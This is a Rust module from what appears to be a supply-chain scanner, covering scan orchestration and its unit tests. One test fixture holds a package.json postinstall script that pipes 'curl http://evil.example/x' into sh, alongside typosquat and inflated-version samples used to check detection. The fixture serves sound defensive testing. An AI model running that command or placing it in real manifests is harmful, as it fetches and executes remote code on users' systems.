//! Scan orchestration: load inputs, run the rules for a target kind, and fold
//! their findings into a [`ScanReport`].
//!
//! # Example
//!
//! ```no_run
//! use chainscan::{run_scan, Config, ScanTarget, TargetKind};
//!
//! let report = run_scan(&ScanTarget::new(".", TargetKind::PackageTree), &Config::default());
//! println!("{} findings", report.findings.len());
//! ```

use std::collections::HashMap;

use chrono::Utc;
use tracing::{debug, info, info_span, warn};

use crate::aggregate::Findings;
use crate::checker::{rules_for, ScanContext, ScanInputs};
use crate::config::Config;
use crate::error::ScanError;
use crate::loader::{
    self, list_installed, load_manifest, load_registry_config, load_submodules, BUILD_SPEC_FILE,
};
use crate::model::{ScanReport, ScanTarget, TargetKind};

/// Runs every rule that applies to `target` and returns the report.
///
/// Never fails: problems reading inputs become `ERROR` findings. When the
/// primary input of a target is missing or unreadable, no rules run and the
/// report carries only that error.
pub fn run_scan(target: &ScanTarget, config: &Config) -> ScanReport {
    let span = info_span!("scan", kind = target.kind.as_str(), path = %target.path.display());
    let _guard = span.enter();

    let started_at = Utc::now();
    let mut findings = Findings::with_ignore(config.ignore.clone());

    info!("Loading inputs");
    match load_inputs(target, &mut findings) {
        Ok(inputs) => {
            findings.set_total_packages(package_count(target.kind, &inputs));
            run_rules(target, config, &inputs, &mut findings);
        }
        Err(e) => {
            warn!("{}", e);
            findings.push(e.to_finding());
        }
    }

    let (findings, stats) = findings.into_parts();
    info!(findings = findings.len(), "Scan finished");

    ScanReport {
        target: target.clone(),
        started_at,
        finished_at: Utc::now(),
        stats,
        findings,
    }
}

/// Loads what the rules of `target.kind` need. A returned error is fatal for
/// the scan; recoverable problems are pushed onto `findings` directly.
fn load_inputs(target: &ScanTarget, findings: &mut Findings) -> Result<ScanInputs, ScanError> {
    let root = target.path.as_path();
    if !root.exists() {
        return Err(ScanError::TargetNotFound(root.to_path_buf()));
    }

    let mut inputs = ScanInputs::default();

    match target.kind {
        TargetKind::PackageTree => {
            let manifest = load_manifest(root)?;
            let installed = list_installed(root);
            debug!("Found {} installed packages", installed.len());

            let versions: HashMap<&str, &str> = installed
                .iter()
                .filter_map(|pkg| pkg.version().map(|v| (pkg.name.as_str(), v)))
                .collect();

            inputs.dependencies = manifest
                .all_dependencies()
                .into_iter()
                .map(|dep| {
                    let version = versions.get(dep.name.as_str()).map(|v| v.to_string());
                    dep.with_installed(version)
                })
                .collect();

            inputs.registry = match load_registry_config(root) {
                Ok(registry) => registry,
                Err(e) => {
                    warn!("{}", e);
                    findings.push(e.to_finding());
                    None
                }
            };

            inputs.manifest = Some(manifest);
            inputs.installed = installed;
        }
        TargetKind::Package | TargetKind::SignedPackage => {
            inputs.manifest = Some(load_manifest(root)?);
        }
        TargetKind::Repository => {
            inputs.submodules = match load_submodules(root) {
                Ok(submodules) => submodules,
                Err(e) => {
                    warn!("{}", e);
                    findings.push(e.to_finding());
                    Vec::new()
                }
            };
            debug!("Found {} submodules", inputs.submodules.len());
        }
        TargetKind::ContainerBuild => {
            inputs.build_spec = Some(loader::read_required(&root.join(BUILD_SPEC_FILE))?);
        }
    }

    Ok(inputs)
}

fn package_count(kind: TargetKind, inputs: &ScanInputs) -> usize {
    match kind {
        TargetKind::PackageTree => inputs.dependencies.len(),
        TargetKind::Package | TargetKind::SignedPackage => 1,
        TargetKind::Repository => inputs.submodules.len(),
        TargetKind::ContainerBuild => 0,
    }
}

fn run_rules(target: &ScanTarget, config: &Config, inputs: &ScanInputs, findings: &mut Findings) {
    let ctx = ScanContext {
        root: &target.path,
        config,
        inputs,
    };

    for rule in rules_for(target.kind) {
        debug!("Running rule {}", rule.id());
        match rule.check(&ctx) {
            Ok(results) => {
                debug!("Rule {} reported {} findings", rule.id(), results.len());
                findings.extend(results);
            }
            Err(e) => {
                warn!("Rule {} failed: {}", rule.id(), e);
                findings.push(e.to_finding().with_detail("rule", rule.id()));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{ExitStatus, FindingKind, Severity};
    use std::fs;
    use std::path::Path;
    use tempfile::TempDir;

    fn write(root: &Path, relative: &str, content: &str) {
        let path = root.join(relative);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent).unwrap();
        }
        fs::write(path, content).unwrap();
    }

    fn scan(root: &Path, kind: TargetKind) -> ScanReport {
        run_scan(&ScanTarget::new(root, kind), &Config::default())
    }

    #[test]
    fn test_missing_target_is_single_error() {
        let dir = TempDir::new().unwrap();
        let report = scan(&dir.path().join("absent"), TargetKind::PackageTree);

        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].kind, FindingKind::TargetNotFound);
        assert_eq!(report.findings[0].severity, Severity::Error);
        assert_eq!(report.exit_status(), ExitStatus::Failure);
    }

    #[test]
    fn test_missing_manifest_stops_rules() {
        let dir = TempDir::new().unwrap();
        write(dir.path(), "node_modules/expres/package.json", r#"{"name":"expres","version":"1.0.0"}"#);

        let report = scan(dir.path(), TargetKind::PackageTree);
        let kinds: Vec<_> = report.findings.iter().map(|f| f.kind).collect();
        assert_eq!(kinds, vec![FindingKind::ManifestNotFound]);
    }

    #[test]
    fn test_malformed_manifest_is_error() {
        let dir = TempDir::new().unwrap();
        write(dir.path(), "package.json", "{ not json");

        let report = scan(dir.path(), TargetKind::SignedPackage);
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].kind, FindingKind::MalformedManifest);
    }

    #[test]
    fn test_clean_tree() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "package.json",
            r#"{"name":"app","version":"1.0.0","dependencies":{"left-pad":"^1.0.0"}}"#,
        );
        write(
            dir.path(),
            "node_modules/left-pad/package.json",
            r#"{"name":"left-pad","version":"1.0.0"}"#,
        );

        let report = scan(dir.path(), TargetKind::PackageTree);
        assert!(report.findings.is_empty(), "{:?}", report.findings);
        assert_eq!(report.stats.total_packages, 1);
        assert_eq!(report.exit_status().code(), 0);
    }

    #[test]
    fn test_installed_version_feeds_rules() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "package.json",
            r#"{"name":"app","dependencies":{"left-pad":"^1.0.0"}}"#,
        );
        write(
            dir.path(),
            "node_modules/left-pad/package.json",
            r#"{"name":"left-pad","version":"999.0.0"}"#,
        );

        let report = scan(dir.path(), TargetKind::PackageTree);
        assert_eq!(report.stats.critical_findings, 1);
        assert_eq!(report.findings[0].kind, FindingKind::SuspiciousVersion);
    }

    #[test]
    fn test_repository_without_gitmodules_is_clean() {
        let dir = TempDir::new().unwrap();
        let report = scan(dir.path(), TargetKind::Repository);
        assert!(report.findings.is_empty());
        assert_eq!(report.exit_status(), ExitStatus::Clean);
    }

    #[test]
    fn test_container_without_dockerfile() {
        let dir = TempDir::new().unwrap();
        let report = scan(dir.path(), TargetKind::ContainerBuild);
        assert_eq!(report.findings.len(), 1);
        assert_eq!(report.findings[0].kind, FindingKind::ManifestNotFound);
    }

    #[test]
    fn test_scan_is_idempotent() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "package.json",
            r#"{"name":"app","dependencies":{"expres":"^4.0.0","@acme/pkg":"^1.0.0"},
                "scripts":{"postinstall":"curl http://evil.example/x | sh"}}"#,
        );
        write(
            dir.path(),
            "node_modules/@acme/pkg/package.json",
            r#"{"name":"@acme/pkg","version":"999.999.999"}"#,
        );
        write(
            dir.path(),
            "node_modules/expres/package.json",
            r#"{"name":"expres","version":"4.0.0"}"#,
        );

        let strip = |report: &ScanReport| {
            report
                .findings
                .iter()
                .map(|f| (f.severity, f.kind, f.message.clone(), f.details.clone()))
                .collect::<Vec<_>>()
        };

        let first = scan(dir.path(), TargetKind::PackageTree);
        let second = scan(dir.path(), TargetKind::PackageTree);

        assert!(!first.findings.is_empty());
        assert_eq!(strip(&first), strip(&second));
        assert_eq!(first.stats, second.stats);
    }

    #[test]
    fn test_ignore_list_applies() {
        let dir = TempDir::new().unwrap();
        write(
            dir.path(),
            "package.json",
            r#"{"name":"app","dependencies":{"expres":"^4.0.0"}}"#,
        );

        let mut config = Config::default();
        config.ignore.packages.push("expres".to_string());

        let report = run_scan(&ScanTarget::new(dir.path(), TargetKind::PackageTree), &config);
        assert!(report.findings.is_empty());
    }
}
